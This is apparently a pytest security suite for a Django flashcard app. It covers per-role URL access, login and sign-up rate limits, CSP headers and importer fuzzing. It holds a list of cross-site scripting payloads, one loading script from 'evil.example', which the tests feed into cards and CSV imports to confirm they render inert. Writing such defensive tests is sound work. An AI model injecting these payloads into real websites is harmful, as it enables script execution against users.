from __future__ import annotations

import html.parser
import re
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import OperationalError
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from decks import services
from decks.importers import DeckFormatError
from decks.models import Card, Deck, Review
from tests.conftest import NOW, make_deck, make_user

# --- Access matrix over every URL the app serves ------------------------------------------
#
# For each named URL: how to call it, and the expected status for each role. The deck in
# the URL is student A's private deck. "login" means a redirect to the login page.
ANON, A, B, STAFF = "anonymous", "student A", "student B", "staff"

MATRIX = {
    "login": ("GET", {}, {ANON: 200, A: 200, B: 200, STAFF: 200}),
    "logout": ("POST", {}, {ANON: 302, A: 302, B: 302, STAFF: 302}),
    "signup": ("GET", {}, {ANON: 200, A: 302, B: 302, STAFF: 302}),
    "healthz": ("GET", {}, {ANON: 200, A: 200, B: 200, STAFF: 200}),
    "media": ("GET", {"path": "anki/missing.png"}, {ANON: "login", A: 404, B: 404, STAFF: 404}),
    "home": ("GET", {}, {ANON: "login", A: 200, B: 200, STAFF: 200}),
    "study_settings": ("GET", {}, {ANON: "login", A: 200, B: 200, STAFF: 200}),
    "stats": ("GET", {}, {ANON: "login", A: 200, B: 200, STAFF: 200}),
    "fit_memory_model": ("POST", {}, {ANON: "login", A: 302, B: 302, STAFF: 302}),
    "import_deck": ("GET", {}, {ANON: "login", A: 200, B: 200, STAFF: 200}),
    "export_progress": ("GET", {"kind": "reviews"}, {ANON: "login", A: 200, B: 200, STAFF: 200}),
    "deck_detail": ("GET", {"deck": True}, {ANON: "login", A: 200, B: 404, STAFF: 200}),
    "export_deck": (
        "GET", {"deck": True, "fmt": "csv"}, {ANON: "login", A: 200, B: 404, STAFF: 200}
    ),
    "class_dashboard": ("GET", {"deck": True}, {ANON: "login", A: 404, B: 404, STAFF: 200}),
    "study": ("GET", {"deck": True}, {ANON: "login", A: 200, B: 404, STAFF: 200}),
    "study_flip": ("GET", {"deck": True}, {ANON: "login", A: 400, B: 404, STAFF: 400}),
    "study_rate": ("POST", {"deck": True}, {ANON: "login", A: 400, B: 404, STAFF: 400}),
    "study_undo": ("POST", {"deck": True}, {ANON: "login", A: 302, B: 404, STAFF: 302}),
}  # fmt: skip


def app_url_names() -> set[str]:
    names = set()

    def walk(patterns) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                if pattern.namespace != "admin":
                    walk(pattern.url_patterns)
            elif isinstance(pattern, URLPattern):
                names.add(pattern.name)

    walk(get_resolver().url_patterns)
    return names


def test_every_url_has_a_row_in_the_access_matrix():
    assert app_url_names() == set(MATRIX)


@pytest.fixture
def roles(db):
    a, b = make_user("alice"), make_user("bob")
    staff = make_user("teacher", is_staff=True, is_superuser=True)
    private = make_deck("Alice's private", owner=a, is_public=False)
    services.record_review(a, private.cards.first().pk, 4, NOW)
    return {"users": {ANON: None, A: a, B: b, STAFF: staff}, "deck": private}


@pytest.mark.parametrize("name", sorted(MATRIX))
@pytest.mark.parametrize("role", [ANON, A, B, STAFF])
def test_access_matrix(client, roles, name, role):
    method, args, expected = MATRIX[name]
    kwargs = {}
    if args.get("deck"):
        kwargs["deck_id"] = roles["deck"].pk
    kwargs.update({k: v for k, v in args.items() if k != "deck"})
    url = reverse(name, kwargs=kwargs)
    if roles["users"][role] is not None:
        client.force_login(roles["users"][role])
    response = client.post(url) if method == "POST" else client.get(url)
    if expected[role] == "login":
        assert response.status_code == 302
        assert response.url.startswith("/accounts/login/")
    else:
        assert response.status_code == expected[role]
    # The undo that staff and Alice may send must not touch Alice's history for Bob.
    if role == B:
        assert Review.objects.filter(user=roles["users"][A]).count() == 1


def test_foreign_and_missing_decks_look_the_same(client, roles):
    client.force_login(roles["users"][B])
    foreign = client.get(reverse("deck_detail", args=[roles["deck"].pk]))
    missing = client.get(reverse("deck_detail", args=[987654]))
    assert foreign.status_code == missing.status_code == 404
    assert foreign.content == missing.content


# --- Login throttling and sign-up ---------------------------------------------------------


def test_login_is_locked_after_five_failures(client, db):
    make_user("alice")
    for _ in range(4):
        response = client.post("/accounts/login/", {"username": "alice", "password": "wrong"})
        assert response.status_code == 200
        assert "correct username and password" in response.content.decode()
    # The fifth failure locks: even the right password is refused for a while.
    client.post("/accounts/login/", {"username": "alice", "password": "wrong"})
    response = client.post("/accounts/login/", {"username": "alice", "password": "pw-alice"})
    assert response.status_code == 429
    assert "Too many failed log-in attempts" in response.content.decode()


def test_signup_is_rate_limited_per_address(client, db, settings):
    settings.SIGNUP_RATE_PER_HOUR = 2
    for i in range(2):
        client.post(
            "/accounts/signup/",
            {"username": f"new{i}", "password1": "a-long-Passphrase-42",
             "password2": "a-long-Passphrase-42"},
        )  # fmt: skip
        client.post("/accounts/logout/")
    response = client.post(
        "/accounts/signup/",
        {"username": "new3", "password1": "a-long-Passphrase-42",
         "password2": "a-long-Passphrase-42"},
    )  # fmt: skip
    assert response.status_code == 429
    assert "Too many sign-ups" in response.content.decode()
    assert not Deck.objects.exists()


# --- Hostile content ------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "{{ 7*7 }}{% csrf_token %}",
]


class _Inspector(html.parser.HTMLParser):
    """Collects anything in a page that could run or restyle it and that we did not write:
    script tags, event handlers, javascript:/data:text/html URLs, frames, forms, meta tags."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"<{tag} {name}>")
            if value and re.match(r"\s*(javascript|vbscript|data:text/html)", value, re.I):
                self.problems.append(f"<{tag} {name}={value}>")
        ours = {
            "script": attrs.get("src") in OUR_SCRIPTS,
            "link": attrs.get("href") in ("/static/css/app.css", "/static/favicon.svg"),
            "meta": "charset" in attrs or attrs.get("name") in OUR_META,
            "svg": "chart" in (attrs.get("class") or ""),
            "form": (attrs.get("action") or "/").startswith("/"),
        }
        if tag in ours and not ours[tag]:
            self.problems.append(f"<{tag} {attrs}>")
        if tag in ("iframe", "object", "embed", "base", "style", "math", "frame", "input") and (
            tag != "input" or attrs.get("type") not in ("hidden", "submit", None)
        ):
            self.problems.append(f"<{tag}>")


OUR_SCRIPTS = {
    "/static/django_htmx/htmx-2.min.js",
    "/static/django_htmx/django-htmx.js",
    "/static/js/study.js",
}
OUR_META = {"viewport", "color-scheme", "htmx-config"}


def assert_inert(page: str) -> None:
    inspector = _Inspector()
    inspector.feed(page)
    assert inspector.problems == []


@pytest.mark.parametrize(
    "payload", [p for p in XSS_PAYLOADS if p.startswith(("<", "'", '"')) and "scr<" not in p]
)
def test_the_inspector_catches_each_html_payload_when_live(payload):
    """The checks below would fail if a payload reached a page unescaped."""
    with pytest.raises(AssertionError):
        assert_inert(payload)


@pytest.fixture
def hostile_deck(student):
    deck = Deck.objects.create(
        title=" ".join(XSS_PAYLOADS[:5]), description="\n\n".join(XSS_PAYLOADS), is_public=True
    )
    Card.objects.bulk_create(
        Card(deck=deck, front=payload, back=payload, tags=payload[:200], position=i)
        for i, payload in enumerate(XSS_PAYLOADS, start=1)
    )
    return deck


def test_hostile_card_text_renders_inert_everywhere(student_client, student, hostile_deck):
    pages = [
        "/",
        f"/decks/{hostile_deck.pk}/",
        f"/decks/{hostile_deck.pk}/study/",
        "/stats/",
    ]
    for url in pages:
        assert_inert(student_client.get(url).content.decode())
    services.ensure_progress(student, hostile_deck)
    for card in hostile_deck.cards.all():
        page = student_client.get(f"/decks/{hostile_deck.pk}/study/?card={card.pk}").content
        assert_inert(page.decode())
        token = re.search(rb'name="token" value="([^"]+)"', page).group(1).decode()
        flipped = student_client.get(f"/decks/{hostile_deck.pk}/study/flip/", {"token": token})
        assert_inert(flipped.content.decode())


def test_hostile_content_on_class_dashboard(client, staff, student, hostile_deck):
    for card in hostile_deck.cards.all()[:5]:
        services.record_review(student, card.pk, 1, NOW)
    client.force_login(staff)
    assert_inert(client.get(f"/decks/{hostile_deck.pk}/class/").content.decode())


def test_hostile_imported_file_renders_inert(student_client):
    rows = "front,back,tags\n" + "".join(
        '"{}","{}",x\n'.format(p.replace('"', '""'), p.replace('"', '""')) for p in XSS_PAYLOADS
    )
    upload = SimpleUploadedFile("evil.csv", rows.encode())
    response = student_client.post("/decks/import/", {"file": upload})
    assert response.status_code == 302
    assert_inert(student_client.get(response.url).content.decode())


def test_links_in_cards_get_noopener(student_client):
    deck = make_deck("Links", cards=0)
    Card.objects.create(deck=deck, front="[site](https://example.org)", back="b", position=1)
    page = student_client.get(f"/decks/{deck.pk}/study/").content.decode()
    assert '<a href="https://example.org" rel="noopener noreferrer">site</a>' in page


# --- Headers ----------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/accounts/login/", "/", "/stats/", "/healthz"])
def test_every_page_has_a_strict_content_security_policy(student_client, url):
    header = student_client.get(url)["Content-Security-Policy"]
    policy = dict(
        (part.strip().split(" ", 1) + [""])[:2] for part in header.split(";") if part.strip()
    )
    assert policy["default-src"] == "'self'"
    assert re.fullmatch(r"'self'( 'nonce-[^']+')?", policy["script-src"])
    assert "unsafe" not in header
    assert policy["frame-ancestors"] == "'none'"
    assert policy["object-src"] == "'none'"


def test_htmx_is_configured_without_eval(student_client):
    page = student_client.get("/").content.decode()
    assert '"allowEval": false' in page
    assert '"includeIndicatorStyles": false' in page


# --- Faults ---------------------------------------------------------------------------------


def test_healthz_answers_200_when_the_database_does(client, db):
    response = client.get("/healthz")
    assert (response.status_code, response.content) == (200, b"ok\n")


def test_healthz_answers_503_without_a_database(client, db):
    with mock.patch("decks.views.connection.cursor", side_effect=OperationalError("down")):
        assert client.get("/healthz").status_code == 503


def test_database_outage_gives_a_friendly_503(student_client):
    with mock.patch("decks.views.queue.done_today", side_effect=OperationalError("gone")):
        response = student_client.get("/")
    assert response.status_code == 503
    assert "taking a short break" in response.content.decode()
    assert "Traceback" not in response.content.decode()


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.one_of(
    st.binary(max_size=400),
    st.text(max_size=400).map(str.encode),
    st.lists(st.sampled_from(
        ["Title", "", "1", "2", "Q", "A", "question", "answer", "How well did you know this?",
         "Not at all", "Perfectly", "#separator:tab", "#html:true", "a\tb", "a,b", '"',
         "front,back"]
    ), max_size=40).map(lambda lines: "\n".join(lines).encode()),
))  # fmt: skip
def test_importer_fuzz_gives_a_deck_or_a_clear_error_and_saves_nothing_on_error(db, data):
    decks_before, cards_before = Deck.objects.count(), Card.objects.count()
    try:
        deck, parsed = services.import_deck_file(data)
    except DeckFormatError as error:
        assert str(error)
        assert (Deck.objects.count(), Card.objects.count()) == (decks_before, cards_before)
    else:
        assert deck.cards.count() == len(parsed.cards) > 0
